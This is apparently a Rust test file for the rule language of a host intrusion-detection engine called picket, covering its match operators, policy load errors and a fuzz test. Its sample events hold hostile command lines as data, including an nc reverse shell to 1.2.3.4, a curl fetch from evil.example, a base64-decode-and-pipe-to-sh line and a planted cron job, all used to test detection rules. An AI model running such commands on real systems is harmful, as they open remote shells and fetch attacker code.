//! The policy language: every operator, and load errors with file, line and column.

use std::path::PathBuf;
use std::sync::Arc;

use picket_event::{
    Dns, DnsQuestion, Endpoint, Event, EventKind, File, ParentProcess, Process, Timestamp, User,
};
use picket_policy::{Engine, PolicyErrors, StateLimits, load_paths, load_str};

fn rule(on: &str, when: &str) -> String {
    format!(
        "id: t\ndescription: test\nmitre: T1059\non: {on}\nwhen: '{}'\nseverity: low\n",
        when.replace('\'', "''")
    )
}

fn fires(on: &str, when: &str, ev: &Event) -> bool {
    let set = load_str(&rule(on, when), "t.yaml").unwrap_or_else(|e| panic!("{e}"));
    let mut engine = Engine::new(Arc::new(set), StateLimits::default());
    let mut out = Vec::new();
    engine.evaluate(ev, &mut out);
    !out.is_empty()
}

fn errors(text: &str) -> PolicyErrors {
    match load_str(text, "bad.yaml") {
        Ok(_) => panic!("expected errors for:\n{text}"),
        Err(e) => e,
    }
}

fn exec(name: &str, exe: &str, cmd: &str) -> Event {
    let mut ev = Event::new(EventKind::ProcessStart, Timestamp::from_unix_nanos(0));
    ev.process = Some(Process {
        pid: Some(321),
        name: Some(name.into()),
        executable: Some(exe.into()),
        command_line: Some(cmd.into()),
        args: Some(cmd.split(' ').map(String::from).collect()),
        parent: Some(ParentProcess { pid: Some(1), name: Some("systemd".into()), ..Default::default() }),
        ..Default::default()
    });
    ev.user = Some(User { name: Some("www-data".into()), id: Some("33".into()) });
    ev.event.severity = 21;
    ev
}

fn flow(dst: &str, port: u16) -> Event {
    let mut ev = Event::new(EventKind::NetFlow, Timestamp::from_unix_nanos(0));
    ev.source = Some(Endpoint { ip: Some("10.0.0.2".into()), port: Some(40000), ..Default::default() });
    ev.destination = Some(Endpoint { ip: Some(dst.into()), port: Some(port), ..Default::default() });
    ev
}

#[test]
fn equality_matches_exact_text_and_numbers() {
    let ev = exec("nc", "/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 4444");
    assert!(fires("process.start", r#"process.name == "nc""#, &ev));
    assert!(!fires("process.start", r#"process.name == "NC""#, &ev));
    assert!(fires("process.start", "process.pid == 321", &ev));
    assert!(!fires("process.start", "process.pid == 322", &ev));
}

#[test]
fn not_equal_holds_when_the_value_differs_or_the_field_is_missing() {
    let ev = exec("nc", "/usr/bin/nc", "nc");
    assert!(fires("process.start", r#"process.name != "bash""#, &ev));
    assert!(!fires("process.start", r#"process.name != "nc""#, &ev));
    assert!(fires("process.start", r#"process.working_directory != "/""#, &ev));
}

#[test]
fn in_list_matches_any_member_short_or_long() {
    let ev = exec("socat", "/usr/bin/socat", "socat");
    assert!(fires("process.start", r#"process.name in ["nc", "socat"]"#, &ev));
    assert!(!fires("process.start", r#"process.name in ["nc", "ncat"]"#, &ev));
    let long: Vec<String> =
        (0..40).map(|i| format!("\"tool{i}\"")).chain(["\"socat\"".to_string()]).collect();
    assert!(fires("process.start", &format!("process.name in [{}]", long.join(", ")), &ev));
    assert!(fires("process.start", "process.pid in [1, 321]", &ev));
    assert!(fires("process.start", r#"process.name not in ["nc", "ncat"]"#, &ev));
}

#[test]
fn startswith_endswith_and_contains_take_one_value_or_a_list() {
    let ev = exec("x", "/tmp/.hidden/x", "curl http://evil.example/a.sh");
    assert!(fires("process.start", r#"process.executable startswith "/tmp/""#, &ev));
    assert!(fires("process.start", r#"process.executable startswith ["/dev/shm/", "/tmp/"]"#, &ev));
    assert!(!fires("process.start", r#"process.executable startswith "/usr/""#, &ev));
    assert!(fires("process.start", r#"process.command_line endswith ".sh""#, &ev));
    assert!(fires("process.start", r#"process.command_line contains ["wget", "evil.example"]"#, &ev));
    assert!(!fires("process.start", r#"process.command_line contains "wget""#, &ev));
    assert!(fires("process.start", r#"process.command_line not contains "wget""#, &ev));
}

#[test]
fn glob_matches_star_across_slashes_and_question_mark_as_one_character() {
    let mut ev = Event::new(EventKind::FileCreate, Timestamp::from_unix_nanos(0));
    ev.file = Some(File { path: "/etc/cron.d/evil-job".into(), ..Default::default() });
    assert!(fires("file.create", r#"file.path glob "/etc/cron.*/*""#, &ev));
    assert!(fires("file.create", r#"file.path glob "/etc/*job""#, &ev));
    assert!(fires("file.create", r#"file.path glob "/etc/cron.?/evil-*""#, &ev));
    assert!(fires("file.create", r#"file.path glob "*cron*""#, &ev));
    assert!(!fires("file.create", r#"file.path glob "/etc/cron.??/*""#, &ev));
    assert!(!fires("file.create", r#"file.path glob "/var/*""#, &ev));
}

#[test]
fn matches_is_an_unanchored_regex_with_inline_flags() {
    let ev = exec("sh", "/bin/sh", "echo ZWNobw== | Base64 -d | sh");
    assert!(fires("process.start", r#"process.command_line matches "(?i)base64 +-d""#, &ev));
    assert!(!fires("process.start", r#"process.command_line matches "base64 +-d""#, &ev));
    assert!(fires("process.start", r#"process.command_line matches "\| *sh$""#, &ev));
    assert!(fires("process.start", r#"process.command_line matches ["^nope", "==\s"]"#, &ev));
}

#[test]
fn cidr_matches_ipv4_ipv6_and_mapped_addresses() {
    assert!(fires("net.flow", r#"destination.ip cidr "198.51.100.0/24""#, &flow("198.51.100.77", 443)));
    assert!(fires(
        "net.flow",
        r#"destination.ip cidr "198.51.100.0/24""#,
        &flow("::ffff:198.51.100.77", 443)
    ));
    assert!(!fires("net.flow", r#"destination.ip cidr "198.51.100.0/24""#, &flow("198.51.101.1", 443)));
    assert!(fires(
        "net.flow",
        r#"destination.ip cidr ["10.0.0.0/8", "2001:db8::/32"]"#,
        &flow("2001:db8::9", 443)
    ));
    assert!(fires("net.flow", r#"not destination.ip cidr "10.0.0.0/8""#, &flow("not-an-ip", 1)));
}

#[test]
fn numeric_comparisons_compare_numbers() {
    let ev = flow("1.1.1.1", 4444);
    assert!(fires("net.flow", "destination.port > 1024", &ev));
    assert!(fires("net.flow", "destination.port >= 4444", &ev));
    assert!(!fires("net.flow", "destination.port < 4444", &ev));
    assert!(fires("net.flow", "destination.port <= 4444", &ev));
    assert!(fires("net.flow", "event.severity == 0", &ev));
}

#[test]
fn and_or_not_and_parentheses_follow_precedence() {
    let ev = exec("bash", "/bin/bash", "bash");
    // not > and > or
    assert!(fires(
        "process.start",
        r#"process.name == "x" and process.pid == 1 or process.name == "bash""#,
        &ev
    ));
    assert!(!fires(
        "process.start",
        r#"process.name == "x" and (process.pid == 1 or process.name == "bash")"#,
        &ev
    ));
    assert!(fires("process.start", r#"not process.name == "x" and process.pid == 321"#, &ev));
    assert!(!fires("process.start", r#"not (process.name == "bash" or process.pid == 1)"#, &ev));
}

#[test]
fn exists_tests_whether_the_event_has_the_field() {
    let ev = exec("bash", "/bin/bash", "bash");
    assert!(fires("process.start", "user.name exists", &ev));
    assert!(!fires("process.start", "process.working_directory exists", &ev));
    assert!(fires("process.start", "not process.entity_id exists", &ev));
}

#[test]
fn a_test_on_a_list_field_holds_if_any_element_matches() {
    let ev = exec("nc", "/usr/bin/nc", "nc -e /bin/sh 1.2.3.4");
    assert!(fires("process.start", r#"process.args == "-e""#, &ev));
    assert!(fires("process.start", r#"process.args startswith "/bin/""#, &ev));
    assert!(!fires("process.start", r#"process.args == "-l""#, &ev));
    let mut dns = Event::new(EventKind::NetDns, Timestamp::from_unix_nanos(0));
    dns.dns = Some(Dns {
        question: DnsQuestion { name: "x.example".into(), r#type: None },
        resolved_ip: Some(vec!["192.0.2.1".into(), "203.0.113.5".into()]),
        response_code: None,
    });
    assert!(fires("net.dns", r#"dns.resolved_ip cidr "203.0.113.0/24""#, &dns));
}

#[test]
fn every_test_on_a_missing_field_is_false() {
    let ev = Event::new(EventKind::ProcessStart, Timestamp::from_unix_nanos(0));
    for when in [
        r#"process.name == "x""#,
        r#"process.name startswith "x""#,
        r#"process.name matches ".*""#,
        "process.pid > 0",
        "process.pid < 1000000",
        r#"process.args contains """#,
    ] {
        assert!(!fires("process.start", when, &ev), "{when}");
    }
}

#[test]
fn a_field_the_kind_never_carries_is_an_error_with_line_and_column() {
    let text = "id: r\ndescription: d\nmitre: T1110\non: auth.failure\nwhen: file.path == \"/etc/shadow\"\nseverity: high\n";
    let e = errors(text);
    assert_eq!(e.len(), 1, "{e}");
    assert_eq!(e.to_string(), "bad.yaml:5:7: r: field `file.path` is never present on `auth.failure` events");
}

#[test]
fn a_field_must_be_carried_by_every_kind_in_on() {
    let e = errors(&rule("[file.create, process.start]", r#"file.path == "/x""#));
    assert!(e.to_string().contains("never present on `process.start` events"), "{e}");
}

#[test]
fn an_unknown_field_is_an_error_that_suggests_the_closest() {
    let e = errors(&rule("process.start", r#"proces.name == "x""#));
    assert!(e.to_string().contains("unknown field `proces.name` (did you mean `process.name`?)"), "{e}");
}

#[test]
fn operators_are_checked_against_the_field_type() {
    let e = errors(&rule("net.flow", r#"destination.port startswith "44""#));
    assert!(e.to_string().contains("works on text, and `destination.port` is a number"), "{e}");
    let e = errors(&rule("process.start", r#"process.name cidr "10.0.0.0/8""#));
    assert!(e.to_string().contains("`cidr` works on IP address fields"), "{e}");
    let e = errors(&rule("net.flow", r#"destination.port == "22""#));
    assert!(e.to_string().contains("write 22 without quotes"), "{e}");
    let e = errors(&rule("net.flow", r#"destination.ip cidr "10.0.0.0/40""#));
    assert!(e.to_string().contains("not an IP network"), "{e}");
    let e = errors(&rule("process.start", r#"process.name matches "(unclosed""#));
    assert!(e.to_string().contains("bad regular expression"), "{e}");
}

#[test]
fn an_expression_syntax_error_points_at_the_token() {
    let e = errors(&rule("process.start", r#"process.name == "x" and and process.pid == 1"#));
    // `when: '` is 7 characters; the second `and` is at offset 24 of the expression.
    assert_eq!(e.0[0].line, 5);
    assert_eq!(e.0[0].col, 8 + 24, "{e}");
    assert!(e.0[0].message.contains("expected a field name"), "{e}");
    let e = errors(&rule("process.start", r#"process.name = "x""#));
    assert!(e.to_string().contains("use `==`"), "{e}");
    let e = errors(&rule("process.start", r#"process.name == "x"#));
    assert!(e.to_string().contains("unterminated string"), "{e}");
}

#[test]
fn errors_inside_a_folded_expression_point_at_their_line() {
    let text = "id: r\ndescription: d\nmitre: T1059\non: process.start\nwhen: >\n  process.name == \"x\"\n  and proces.pid == 1\nseverity: low\n";
    let e = errors(text);
    assert_eq!((e.0[0].line, e.0[0].col), (7, 7), "{e}");
}

#[test]
fn a_yaml_syntax_error_has_line_and_column() {
    let e = errors("id: r\ndescription: [unclosed\nseverity: low\n");
    assert_eq!(e.len(), 1, "{e}");
    let s = e.to_string();
    assert!(s.starts_with("bad.yaml:"), "{s}");
    assert!(e.0[0].line >= 2 && e.0[0].col >= 1, "{s}");
    assert!(s.contains("YAML syntax error"), "{s}");
}

#[test]
fn several_errors_in_one_file_are_all_reported_with_their_lines() {
    let text = "\
- id: first
  description: d
  mitre: T1110
  on: auth.failure
  when: user.nme == \"root\"
  severity: high
- id: second
  description: d
  mitre: X1
  on: auth.bogus
  severity: extreme
  colour: red
- id: third
  description: d
  mitre: T1110
  on: auth.failure
  threshold: {count: 0, within: soon, by: [file.path]}
  severity: low
  actions:
    - block_ip: {target: source.ip}
    - explode
";
    let e = errors(text);
    let lines: Vec<(u32, Option<&str>)> = e.iter().map(|e| (e.line, e.rule.as_deref())).collect();
    for want in [
        (5, Some("first")),   // unknown field
        (9, Some("second")),  // bad technique
        (10, Some("second")), // unknown kind
        (11, Some("second")), // bad severity
        (12, Some("second")), // unknown key
        (17, Some("third")),  // count 0, bad duration, file.path on auth
        (20, Some("third")),  // block_ip without ttl
        (21, Some("third")),  // unknown action
    ] {
        assert!(lines.contains(&want), "missing {want:?} in\n{e}");
    }
    assert!(e.len() >= 10, "{e}");
    for line in e.to_string().lines() {
        assert!(line.starts_with("bad.yaml:"), "{line}");
    }
}

#[test]
fn an_action_target_the_kind_cannot_give_is_an_error() {
    let text = "id: r\ndescription: d\nmitre: T1059\non: process.start\nseverity: high\nactions:\n  - block_ip: {ttl: 1h}\n";
    let e = errors(text);
    assert!(
        e.to_string().contains(
            "bad.yaml:7:5: r: `block_ip`: field `source.ip` is never present on `process.start` events"
        ),
        "{e}"
    );
    let text = "id: r\ndescription: d\nmitre: T1059\non: process.start\nseverity: high\nactions:\n  - kill: {target: user.name}\n";
    assert!(errors(text).to_string().contains("takes its target from process.pid or process.parent.pid"));
}

#[test]
fn rules_need_id_description_mitre_on_and_severity() {
    let e = errors("when: 'message exists'\n");
    let s = e.to_string();
    for key in ["`id`", "`description`", "`mitre`", "`on`", "`severity`"] {
        assert!(s.contains(key), "{key} not reported in\n{s}");
    }
}

#[test]
fn load_paths_reports_errors_from_every_file_and_duplicate_ids() {
    let dir = std::env::temp_dir().join(format!("picket-policy-test-{}", std::process::id()));
    let sub = dir.join("credential-access");
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::write(sub.join("a.yaml"), rule("auth.failure", "user.name exists")).unwrap();
    std::fs::write(sub.join("b.yaml"), rule("auth.failure", "user.name exists")).unwrap();
    std::fs::write(sub.join("c.yaml"), rule("auth.failure", "file.path exists")).unwrap();
    std::fs::write(sub.join("c.test.yaml"), "this is not a policy: [").unwrap();
    let e = match load_paths(std::slice::from_ref(&dir)) {
        Ok(_) => panic!("expected errors"),
        Err(e) => e,
    };
    let s = e.to_string();
    assert!(s.contains("b.yaml:1:1: t: duplicate rule id (first defined at"), "{s}");
    assert!(s.contains("c.yaml:5:"), "{s}");
    assert_eq!(e.len(), 2, "{s}"); // the duplicate and the bad field; test files are not policies
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_valid_file_of_several_rules_loads_them_in_order() {
    let text = format!(
        "- {}\n- {}",
        rule("auth.failure", "user.name exists").replace('\n', "\n  ").trim_end(),
        rule("auth.success", "user.name exists").replace("id: t", "id: u").replace('\n', "\n  ").trim_end()
    );
    let set = load_str(&text, "two.yaml").unwrap_or_else(|e| panic!("{e}"));
    let ids: Vec<&str> = set.rules().map(|r| &*r.id).collect();
    assert_eq!(ids, ["t", "u"]);
    assert_eq!(set.rules().next().unwrap().origin, "two.yaml:1");
}

#[test]
fn malformed_policies_give_errors_never_a_panic() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../policies");
    let mut texts = Vec::new();
    for tactic in std::fs::read_dir(&dir).unwrap() {
        // picket's own policies (policies/sigma holds Sigma rules in subdirectories, and notices).
        for f in std::fs::read_dir(tactic.unwrap().path()).unwrap() {
            let p = f.unwrap().path();
            if p.is_file() && p.extension().is_some_and(|e| e == "yaml") {
                texts.push(std::fs::read_to_string(p).unwrap());
            }
        }
    }
    texts.push("- {id: x, description: d, mitre: T1059, on: process.start, severity: low, when: 'process.name == \"日本\"', 日本: 1}".into());
    let junk =
        ["", "\"", "'", "[", "]", "{", ":", " - ", "\n", "\t", "(", "not ", "日", "*a", "&a", "!!str ", "\\"];
    let mut tries = 0;
    for text in &texts {
        let cuts: Vec<usize> = text.char_indices().map(|(i, _)| i).step_by(7).collect();
        for (n, &at) in cuts.iter().enumerate() {
            let j = junk[n % junk.len()];
            for variant in [format!("{}{j}", &text[..at]), format!("{}{j}{}", &text[..at], &text[at..])] {
                tries += 1;
                if let Err(e) = load_str(&variant, "fuzz.yaml") {
                    for err in &e {
                        assert!(err.line >= 1 && err.col >= 1, "{err}");
                    }
                }
            }
        }
    }
    assert!(tries > 1000);
}
